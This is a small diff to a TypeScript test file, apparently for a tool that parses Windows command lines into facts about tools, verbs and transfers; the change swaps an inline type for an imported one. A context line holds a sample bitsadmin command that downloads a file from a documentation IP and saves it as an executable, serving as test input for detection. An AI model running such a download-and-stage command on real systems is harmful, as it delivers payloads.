@@ -1,5 +1,5 @@
 /** The same act in other words gives the same facts. */
-import type { Facts } from '../../src/windows/index.js';
+import type { Facts, Place } from '../../src/windows/index.js';
 import { encoded, processFacts } from './rows.js';
 
 const fetch = 'bitsadmin /transfer job7 http://198.51.100.7/a.bin C:\\d\\a.exe';
@@ -7,7 +7,7 @@ const fetch = 'bitsadmin /transfer job7 http://198.51.100.7/a.bin C:\\d\\a.exe';
 /** What is done, and to what, without how it was written. */
 function deed(facts: Facts | undefined): unknown {
   if (!facts) return undefined;
-  const place = (one: { path?: string; host?: string } | undefined) => (one ? `${one.host ?? ''}${one.path ?? ''}`.toLowerCase() : undefined);
+  const place = (one: Place | undefined) => (one ? `${one.host ?? ''}${one.path ?? ''}`.toLowerCase() : undefined);
   return { tool: facts.tools.at(-1), verbs: facts.verbs.filter((verb) => verb !== 'import'), transfers: facts.transfers.map(({ direction, source, destination }) => [direction, place(source), place(destination)]) };
 }
 
